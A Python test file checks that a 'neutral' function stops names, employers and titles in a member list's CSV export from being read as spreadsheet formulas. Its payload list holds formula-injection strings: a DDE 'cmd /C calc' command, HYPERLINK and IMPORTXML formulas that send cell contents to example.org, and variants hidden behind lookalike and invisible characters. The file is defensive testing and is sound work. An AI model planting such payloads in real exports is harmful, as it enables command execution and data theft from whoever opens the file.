"""No cell of a list is ever taken for a formula, whatever was written into a name, an employer or a title."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from members.rules.cells import neutral

STARTS = "=+-@|%"
WIDE = "＝＋－＠｜％﹦﹢﹣﹫⁼⁺⁻₌₊₋−"
PAYLOADS = [
    *(f"{start}1+1" for start in STARTS + WIDE),
    *(f" {start}A1" for start in STARTS + WIDE[:4]),
    *(f"{space}=1+1" for space in ("\t", "\r", "\n", "\r\n", "\v", "\f", "\xa0", "\u2003", "\u3000", "\u2028", "\x85")),
    *(f"{hidden}=1+1" for hidden in ("\ufeff", "\u200b", "\u200e", "\u202e", "\u2060", "\xad", "\x00", "\x1f", "\x7f")),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1632 960100",
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    "=1+1;=1+1",
    "a;=1+1",
    "a; \t=1+1",
    "a,=1+1",
    "a；＝1+1",
    "\n\n=1",
    "=\n1",
    "= 1",
    "|cmd",
]


def cells_of(written):
    """Every cell that a spreadsheet may see in a line: cut at commas, and at the separators of other countries."""
    for line in io.StringIO(written, newline=""):
        for separator in ",;":
            yield from next(csv.reader([line], delimiter=separator))


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_payload_begins_a_formula_in_any_cell(payload):
    safe = neutral(payload)
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(["Haygreen", safe, "end"])
    assert len(file.getvalue().splitlines()) == 1
    for cell in cells_of(file.getvalue()):
        assert cell.strip().strip('"')[:1] not in STARTS + WIDE or not cell.strip(), cell


@pytest.mark.parametrize(
    "plain",
    [
        "Susan Haygreen",
        "O’Neill-Smith",
        "Łukasz Żółć",
        "St George's, London",
        "RCT50001",
        "2026-11-22",
        "",
        "a - b",
        "1+1",
    ],
)
def test_what_is_no_formula_stays_as_it_is(plain):
    assert neutral(plain) == plain


def test_nothing_and_numbers_are_text():
    assert neutral(None) == ""
    assert neutral(12) == "12"


@given(st.text(max_size=40))
def test_no_text_whatever_begins_a_formula(text):
    assert neutral(text)[:1] not in STARTS + WIDE or neutral(text) == ""


@given(st.text(max_size=40))
def test_neutralising_twice_is_neutralising_once(text):
    assert neutral(neutral(text)) == neutral(text)
